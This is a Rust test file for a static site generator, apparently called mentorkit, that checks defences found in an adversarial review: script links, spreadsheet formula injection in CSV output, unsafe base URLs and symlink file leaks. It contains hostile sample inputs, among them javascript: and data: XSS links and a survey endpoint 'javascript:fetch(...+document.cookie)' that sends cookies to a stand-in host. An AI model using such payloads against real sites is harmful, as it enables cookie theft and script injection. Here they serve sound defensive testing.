//! Findings of an adversarial review, each pinned by a test: links and addresses that would
//! run code, spreadsheet formulas in the CSV files the tool writes, terminal escapes in
//! messages, and files reached through symbolic links.

mod common;

use common::{Project, mentorkit};

fn output(command: &mut assert_cmd::Command) -> (i32, String) {
    let out = command.output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn links_that_would_run_code_are_published_as_hash_and_reported_by_build_and_check() {
    let project = Project::new();
    project.write(
        "content/guides/goals/links.md",
        "---\ntitle: Links\n---\n\n[a](javascript:alert(1)) [b](JavaScript:alert(2)) [c](<java\tscript:alert(3)>) [d](vbscript:x) [e](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(4)>\n\n[fine](https://example.org/data:x) [also](data-sharing.md)\n",
    );
    project.write(
        "content/guides/goals/data-sharing.md",
        "---\ntitle: Data sharing\n---\n\nText.\n",
    );
    let (code, err) = output(mentorkit().args(["build", "--root"]).arg(project.root()));
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        err.matches("runs code when clicked; it is published as `#`")
            .count(),
        6,
        "{err}"
    );
    assert!(err.contains("a link to `javascript:`"), "{err}");
    assert!(
        err.contains("--> content/guides/goals/links.md:5:"),
        "{err}"
    );
    let page = project.read_output("guides/goals/links.html");
    let lower = page.to_lowercase();
    for needle in [
        "href=\"javascript:",
        "href=\"java\tscript:",
        "href=\"vbscript:",
        "href=\"data:",
    ] {
        assert!(!lower.contains(needle), "{needle} is published:\n{page}");
    }
    assert_eq!(page.matches("href=\"#\"").count(), 6, "{page}");
    assert!(page.contains("href=\"https://example.org/data:x\""));
    assert!(page.contains("data-sharing.html\">also"), "{page}");

    let (code, err) = output(mentorkit().args(["check", "--root"]).arg(project.root()));
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains("warning: a link to `vbscript:` runs code when clicked"),
        "{err}"
    );
}

#[test]
fn a_question_that_looks_like_a_formula_is_text_in_the_data_dictionary() {
    let project = Project::new();
    project.write(
        "content/surveys/baseline.yaml",
        "title: Baseline survey\naudience: mentee\nphase: start\nquestions:\n  - id: confidence\n    type: text\n    text: '=HYPERLINK(\"http://x.example\",\"Click\")'\n  - id: score\n    type: text\n    text: '@SUM(A1)'\n",
    );
    let (code, err) = output(mentorkit().args(["build", "--root"]).arg(project.root()));
    assert_eq!(code, 0, "{err}");
    let csv = project.read_output("surveys/baseline/dictionary.csv");
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://x.example\"\",\"\"Click\"\")\""),
        "{csv}"
    );
    assert!(csv.contains(",'@SUM(A1),"), "{csv}");
    for line in csv.lines() {
        for cell in line.split(',') {
            assert!(!cell.starts_with(['=', '+', '@']), "{cell} in {csv}");
        }
    }
}

#[test]
fn a_survey_endpoint_or_base_url_that_is_not_a_web_address_is_an_error() {
    let project = Project::new();
    project.write(
        "mentorkit.yaml",
        &(common::CONFIG.to_string()
            + "base_url: //cdn.example.org/x\nsurveys:\n  submit: post\n  endpoint: \"javascript:fetch('//x.example/'+document.cookie)\"\n"),
    );
    let (code, err) = output(mentorkit().args(["build", "--root"]).arg(project.root()));
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains(
            "`//cdn.example.org/x` has no scheme, so browsers read it as an address on another host"
        ),
        "{err}"
    );
    assert!(
        err.contains(
            "is a `javascript:` address; only http and https addresses and paths are taken"
        ),
        "{err}"
    );
    assert!(err.contains("--> mentorkit.yaml:"), "{err}");
    assert!(!project.path("public").exists());

    project.write(
        "mentorkit.yaml",
        &(common::CONFIG.to_string() + "surveys:\n  submit: post\n  endpoint: api/responses\n"),
    );
    let (code, err) = output(mentorkit().args(["check", "--root"]).arg(project.root()));
    assert_eq!(
        code, 0,
        "a relative endpoint is a path on the site's host: {err}"
    );
}

#[cfg(unix)]
mod links {
    use super::*;
    use std::os::unix::fs::symlink;

    /// A file outside the project, with a line that must never be published.
    fn secret(dir: &tempfile::TempDir) -> std::path::PathBuf {
        let path = dir.path().join("secret.svg");
        std::fs::write(&path, "<svg><title>TOP-SECRET-LINE</title></svg>\n").unwrap();
        path
    }

    fn published(project: &Project) -> String {
        let mut all = String::new();
        for entry in walkdir::WalkDir::new(project.path("public"))
            .into_iter()
            .filter_map(Result::ok)
        {
            if entry.file_type().is_file() {
                all.push_str(&String::from_utf8_lossy(
                    &std::fs::read(entry.path()).unwrap(),
                ));
            }
        }
        all
    }

    #[test]
    fn a_department_logo_or_department_yaml_that_is_a_link_is_refused() {
        let outside = tempfile::tempdir().unwrap();
        let project = Project::new();
        project.write(
            "content/departments/rehab/department.yaml",
            "name: Rehab\nbranding:\n  logo: logo.svg\n",
        );
        symlink(
            secret(&outside),
            project.path("content/departments/rehab/logo.svg"),
        )
        .unwrap();
        let (code, err) = output(mentorkit().args(["build", "--root"]).arg(project.root()));
        assert_eq!(code, 1, "{err}");
        assert!(
            err.contains("logo `logo.svg` is reached through a symbolic link"),
            "{err}"
        );

        // A logo inside a linked folder is refused the same way.
        std::fs::remove_file(project.path("content/departments/rehab/logo.svg")).unwrap();
        std::fs::create_dir_all(outside.path().join("img")).unwrap();
        std::fs::copy(secret(&outside), outside.path().join("img/logo.svg")).unwrap();
        symlink(
            outside.path().join("img"),
            project.path("content/departments/rehab/img"),
        )
        .unwrap();
        project.write(
            "content/departments/rehab/department.yaml",
            "name: Rehab\nbranding:\n  logo: img/logo.svg\n",
        );
        let (code, err) = output(mentorkit().args(["build", "--root"]).arg(project.root()));
        assert_eq!(code, 1, "{err}");
        assert!(
            err.contains("logo `img/logo.svg` is reached through a symbolic link"),
            "{err}"
        );

        // department.yaml itself.
        let elsewhere = outside.path().join("department.yaml");
        std::fs::write(&elsewhere, "name: TOP-SECRET-LINE\n").unwrap();
        std::fs::remove_file(project.path("content/departments/rehab/department.yaml")).unwrap();
        symlink(
            &elsewhere,
            project.path("content/departments/rehab/department.yaml"),
        )
        .unwrap();
        let (code, err) = output(mentorkit().args(["check", "--root"]).arg(project.root()));
        assert_eq!(code, 1, "{err}");
        assert!(err.contains("this file is a symbolic link"), "{err}");
        assert!(
            err.contains("content/departments/rehab/department.yaml"),
            "{err}"
        );
        assert!(!err.contains("TOP-SECRET-LINE"), "{err}");
    }

    #[test]
    fn links_in_static_and_templates_are_skipped_with_a_warning() {
        let outside = tempfile::tempdir().unwrap();
        let project = Project::new();
        std::fs::create_dir_all(project.path("static")).unwrap();
        std::fs::create_dir_all(project.path("templates/partials")).unwrap();
        symlink(secret(&outside), project.path("static/leak.svg")).unwrap();
        symlink(
            secret(&outside),
            project.path("templates/partials/footer.html"),
        )
        .unwrap();
        let (code, err) = output(mentorkit().args(["build", "--root"]).arg(project.root()));
        assert_eq!(code, 0, "{err}");
        assert_eq!(
            err.matches("warning: symbolic link skipped").count(),
            2,
            "{err}"
        );
        assert!(
            err.contains("static/leak.svg") && err.contains("templates/partials/footer.html"),
            "{err}"
        );
        assert!(!project.path("public/leak.svg").exists());
        assert!(!published(&project).contains("TOP-SECRET-LINE"));
    }
}

#[test]
fn a_missing_organization_logo_is_one_error_at_mentorkit_yaml() {
    let project = Project::new();
    project.write(
        "mentorkit.yaml",
        "title: Test Handbook\norganization:\n  name: Test Health\n  logo: images/logo.svg\n",
    );
    let (code, err) = output(mentorkit().args(["build", "--root"]).arg(project.root()));
    assert_eq!(code, 1, "{err}");
    assert_eq!(
        err.matches("error:").count(),
        2,
        "one error and the summary: {err}"
    );
    assert!(
        err.contains("the organization's logo `images/logo.svg` is not a file in static/"),
        "{err}"
    );
    assert!(err.contains("--> mentorkit.yaml:4:"), "{err}");
    project.write(
        "static/images/logo.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"/>\n",
    );
    let (code, err) = output(mentorkit().args(["check", "--root"]).arg(project.root()));
    assert_eq!(code, 0, "{err}");
}

#[test]
fn a_base_url_option_that_is_not_an_address_or_a_path_is_refused() {
    let project = Project::new();
    for (url, why) in [
        ("//cdn.example.org/x", "has no scheme"),
        ("javascript:alert(1)", "`javascript:` address"),
        ("mentoring", "neither"),
    ] {
        let (code, err) = output(
            mentorkit()
                .args(["build", "--root"])
                .arg(project.root())
                .args(["--base-url", url]),
        );
        assert_eq!(code, 2, "{url}: {err}");
        assert!(
            err.contains("--base-url") && err.contains(why),
            "{url}: {err}"
        );
    }
    assert!(!project.path("public").exists());
    let (code, err) = output(
        mentorkit()
            .args(["build", "--root"])
            .arg(project.root())
            .args(["-u", "/mentoring/"]),
    );
    assert_eq!(code, 0, "{err}");
}
